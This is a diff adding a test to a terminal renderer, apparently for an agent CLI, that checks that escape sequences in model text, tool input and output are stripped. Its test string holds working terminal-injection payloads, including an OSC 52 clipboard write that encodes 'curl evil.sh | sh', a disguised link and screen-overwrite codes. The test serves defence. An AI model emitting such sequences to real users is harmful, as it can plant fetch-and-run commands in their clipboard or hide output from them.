@@ -118,3 +118,31 @@ def test_the_checklist_is_printed_when_it_changes() -> None:
     lines.clear()
     finished([{**t, "status": "completed"} for t in todos])
     assert lines == ["  ✓ todo 3/3 done", "    ✓ Look around", "    ✓ Fix the bug", "    ✓ Add a test"]
+
+
+#: What a hostile page or command could print: a clipboard write (OSC 52), a link (OSC 8),
+#: a title, cursor moves, a C1 CSI, a carriage return over what came before.
+HOSTILE = (
+    "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\"
+    " \x1b]0;title\x07\x1b[2J\x1b[1A\x9b31m\rgone\x1bP1$r\x1b\\"
+)
+
+
+def test_text_and_output_reach_the_terminal_without_escape_sequences_of_their_own() -> None:
+    lines: list[str] = []
+    echo: Any = lambda text, nl=True, color=None: lines.append(text)
+    renderer = Renderer(echo, color=True)
+    for event in (
+        {"type": "text.delta", "run": "r", "session": "s", "text": HOSTILE},
+        {"type": "tool.started", "run": "r", "session": "s", "name": "bash", "call_id": "c", "input": {"command": HOSTILE}},
+        {"type": "tool.finished", "run": "r", "session": "s", "call_id": "c", "result": HOSTILE, "is_error": True},
+        {"type": "error", "run": "r", "session": "s", "message": HOSTILE},
+    ):
+        renderer.render(event)
+    shown = "".join(lines)
+    assert "\x07" not in shown and "\x9b" not in shown and "\r" not in shown
+    # What escapes are left are roost's own colours (SGR: ESC [ ... m), nothing else.
+    assert all(part[:1] == "[" and part.split("m", 1)[0][1:].replace(";", "").isdigit() for part in shown.split("\x1b")[1:])
+    assert "]52;c;" in click.unstyle(shown) and "link" in shown
+    # The shell cleans the same way.
+    assert "\x1b" not in shell.clean(HOSTILE) and "\x9b" not in shell.clean(HOSTILE)
